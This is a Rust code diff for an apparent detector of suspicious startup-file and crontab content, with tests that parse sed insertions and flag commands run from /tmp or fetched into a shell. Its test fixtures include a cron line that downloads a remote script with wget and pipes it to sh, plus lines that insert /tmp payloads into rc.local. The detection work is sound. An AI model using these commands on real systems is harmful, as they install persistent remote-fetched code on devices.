@@ -173,16 +173,38 @@ pub fn printed(commands: &Commands, command: u16) -> Bytes<WORD_BYTES> {
     text
 }
 
+/// The text that an order of sed puts into a file: `/exit 0/i TEXT`, `$a TEXT` (sed(1)).
+#[must_use]
+pub fn inserted(order: &[u8]) -> Option<&[u8]> {
+    if order.first() == Some(&b'-') {
+        return None;
+    }
+    let ends = |part: &[u8]| matches!(part, [b'/' | b'$' | b'0'..=b'9', b'i' | b'a', b' ' | b'\\']);
+    let at = order.windows(3).position(ends)?;
+    order.get(at.saturating_add(3)..).map(|text| text.strip_prefix(b"\\").unwrap_or(text))
+}
+
 /// Whether a text that becomes part of a startup file runs something from an odd place, or fetches something for a shell.
 #[must_use]
 pub fn is_odd_text(text: &[u8]) -> bool {
+    let (odd, fetches) = text_runs(text);
+    odd || fetches
+}
+
+/// Whether a text that is likely shell, or holds some, runs something from an odd place, and whether it fetches something
+/// for a shell.
+#[must_use]
+pub fn text_runs(text: &[u8]) -> (bool, bool) {
     const FETCHERS: [&[u8]; 5] = [b"wget", b"curl", b"tftp", b"ftpget", b"uclient-fetch"];
     const SHELLS: [&[u8]; 6] = [b"sh", b"ash", b"bash", b".", b"source", b"eval"];
     let (mut odd, mut fetches, mut shell) = (false, false, false);
     for part in text.split(|b| b"\n;&|`()".contains(b)) {
         let mut at_program = true;
         for word in fields(part) {
-            let word = word.strip_prefix(b"\"").or_else(|| word.strip_prefix(b"'")).unwrap_or(word);
+            let quote = |b: &u8| matches!(b, b'"' | b'\'');
+            let from = word.iter().position(|b| !quote(b)).unwrap_or(word.len());
+            let to = word.iter().rposition(|b| !quote(b)).map_or(from, |last| last.saturating_add(1));
+            let word = word.get(from..to).unwrap_or_default();
             // What stands before a command: flags of sed, the fields of a crontab, a user, what starts another.
             let schedule = word.iter().all(|b| b.is_ascii_digit() || b"*/,-".contains(b));
             let before = schedule || matches!(word.first(), Some(b'-' | b'@')) || word == b"root";
@@ -194,12 +216,9 @@ pub fn is_odd_text(text: &[u8]) -> bool {
                 odd |= is_odd_program(word);
                 fetches |= FETCHERS.contains(&basename(word));
             }
-            // sed(1): what `i` and `a` add is behind the address.
-            at_program |=
-                [&b"/i"[..], b"/a", b"/i\\", b"/a\\", b"$a", b"$i"].iter().any(|end| word.ends_with(end));
         }
     }
-    odd || (fetches && shell)
+    (odd, fetches && shell)
 }
 
 #[cfg(test)]
@@ -239,6 +258,21 @@ mod tests {
     }
 
     #[test]
+    fn what_sed_puts_into_a_file() {
+        for (order, expected) in [
+            (&b"/exit 0/i /tmp/x &"[..], Some(&b"/tmp/x &"[..])),
+            (b"/^exit 0/i\\/tmp/x", Some(b"/tmp/x")),
+            (b"$a /tmp/x", Some(b"/tmp/x")),
+            (b"1i /tmp/x", Some(b"/tmp/x")),
+            (b"s|/tmp/a|/usr/b|", None),
+            (b"/x/d", None),
+            (b"-i", None),
+        ] {
+            assert_eq!(inserted(order), expected, "{}", String::from_utf8_lossy(order));
+        }
+    }
+
+    #[test]
     fn texts_that_run_something_odd() {
         for text in [
             &b"* * * * * /tmp/x"[..],
@@ -246,8 +280,6 @@ mod tests {
             b"*/5 * * * * root /dev/shm/x",
             b"sh /tmp/x &",
             b"#!/bin/sh\n/tmp/x &\n",
-            b"-i /exit 0/i /tmp/x & /etc/rc.local",
-            b"-i $a /tmp/x /etc/rc.local",
             b"* * * * * wget -q -O - http://192.0.2.1/x.sh | sh",
             b"a x '* * * * * nohup /tmp/x' ",
             b"cd /; sh -c '/tmp/x'",
@@ -259,7 +291,6 @@ mod tests {
             b"*/5 * * * * /etc/init.d/ddns reload",
             b"echo 1 > /tmp/flag",
             b"0 5 * * * wget -qO /tmp/list http://192.0.2.1/x && /etc/init.d/adblock reload",
-            b"-i s#/tmp/a#/usr/b# /etc/rc.local",
             b"[ -f /tmp/x ] && /usr/bin/y",
             b"sh /usr/share/x.sh",
             b"/mnt/sda1/x",
